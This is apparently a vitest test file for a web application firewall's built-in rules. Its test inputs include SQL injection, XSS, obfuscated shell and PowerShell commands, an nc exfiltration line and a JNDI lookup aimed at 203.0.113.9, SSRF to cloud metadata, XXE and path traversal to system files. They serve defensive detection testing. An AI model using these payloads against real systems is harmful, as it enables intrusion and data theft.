import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { benignRequests } from '../../../../../tests/support/waf/benign-requests.ts';
import { type CrsCase, crsCases, sharedData } from '../../../../../tests/support/waf/crs-cases.ts';
import { systemClock } from '../../../kernel/index.ts';
import { ruleFile } from '../rule.ts';
import { createWaf } from '../waf.ts';
import { ownRules } from './own-rules.ts';

const waf = createWaf({ rules: [ownRules], clock: systemClock, budgetMs: 5_000 });
afterAll(() => waf.dispose());
const families = (text: string): string[] =>
  waf.judge({ body: { value: [text] } }).findings.map(({ family }) => family);
const decision = (text: string): string => waf.judge({ body: { value: [text] } }).decision;

describe('our own rules', () => {
  it('are a rule file like any other', () => {
    expect(ruleFile.parse(ownRules).rules.length).toBeGreaterThan(100);
  });

  it.each([
    ['sql', "x' or 1=1 -- "],
    ['sql', '1 UNION/**/ALL/**/SELECT name, secret FROM members'],
    ['sql', "1'; WAITFOR DELAY '0:0:9'--"],
    ['nosql', '{"$where": "this.a == 1"}'],
    ['xss', '<img src=x onerror=go()>'],
    ['xss', 'java\tscript:alert(1)'],
    ['shell', 'x; cat /opt/notes | nc 203.0.113.9 4444'],
    ['shell', `x;c'a't\${IFS}/opt/notes`],
    ['windows', 'x & net user guest /active:yes'],
    ['windows', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3ACkA'],
    ['php', '<?php echo shell_exec($_GET["c"]); ?>'],
    ['java', '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}'],
    ['java', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='],
    ['javascript', "require('child_process').execSync('id')"],
    ['scripting', "{{''.__class__.__mro__[1].__subclasses__()}}"],
    ['template', '{{7*7}}'],
    ['template', '<%= 7 * 7 %>'],
    ['traversal', '..%252f..%252f..%252fetc/passwd'],
    ['traversal', '/proc/self/environ'],
    ['remote', 'http://169.254.169.254/latest/meta-data/'],
    ['remote', 'http://2852039166/'],
    ['remote', 'gopher://127.0.0.1:6379/_FLUSHALL'],
    ['xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'],
    ['ldap', '*)(uid=*))(|(uid=*'],
    ['lookup', `\${\${lower:j}\${upper:n}d\${::-i}:ldap://203.0.113.9/a}`],
    ['http', 'x\r\nSet-Cookie: a=b'],
  ])('find %s in %j', (family, text) => {
    expect(families(text)).toContain(family);
    expect(decision(text)).toBe('block');
  });

  it('find a scanner by its name, and a credential by nothing', () => {
    const head = (...rawHeaders: string[]) =>
      waf.judge({ head: { method: 'GET', path: '/', query: '', rawHeaders } });
    expect(head('user-agent', 'sqlmap/1.8 (https://sqlmap.org)').decision).toBe('block');
    expect(head('authorization', 'Bearer union.select.from').findings).toEqual([]);
  });

  it('block at most one in a hundred of what administrators, agents and collectors send', () => {
    const requests = benignRequests();
    const blocked = requests
      .map((request) => waf.judge(request))
      .filter((verdict) => verdict.decision === 'block');
    expect(requests).toHaveLength(200);
    expect(blocked.map(({ findings }) => findings)).toHaveLength(0);
  });
});

const shared = sharedData('waf');
describe.skipIf(!shared)('on public data (skipped where there is no ../shared/data)', () => {
  const folder = shared ?? '';
  let all: CrsCase[] = [];
  beforeAll(() => {
    all = crsCases(path.join(folder, 'crs'));
  });

  it('no prompt is blocked for what it says: content is for the guards', () => {
    const lines = readFileSync(path.join(folder, 'benign-chat.jsonl'), 'utf8').trim().split('\n');
    expect(lines.length).toBeGreaterThan(200);
    const content = new Set(['/messages/0/content', '/messages/1/content']);
    const found = lines.flatMap((line) => {
      const { text } = JSON.parse(line) as { text: string };
      const messages = [
        { role: 'system', content: 'You write code.' },
        { role: 'user', content: text },
      ];
      return waf.judge({
        body: { value: { model: 'rehearsal', stream: true, temperature: 0.2, messages }, content },
      }).findings;
    });
    expect(found).toEqual([]);
  });

  // Floors a little under what was measured, of CRS's positives at all its four levels. At level 1, which is what CRS runs by default, it is
  // 9 of 10 over all these families (docs/adr/0007-waf.md).
  it.each([
    ['930', 0.8],
    ['931', 0.6],
    ['932', 0.65],
    ['933', 0.8],
    ['934', 0.75],
    ['941', 0.85],
    ['942', 0.57],
    ['943', 0.7],
    ['944', 0.63],
  ])('of the attacks of family %s at least %d are blocked by rules alone', (family, floor) => {
    const cases = all.filter((each) => each.family === family && each.expected.length > 0);
    const blocked = cases.filter(({ input }) => {
      const { findings } = waf.inspect(input);
      return findings.reduce((sum, each) => sum + (each.family === 'protocol' ? 0 : each.score), 0) >= 5;
    });
    expect(cases.length).toBeGreaterThan(10);
    expect(blocked.length / cases.length).toBeGreaterThan(floor);
  });
});
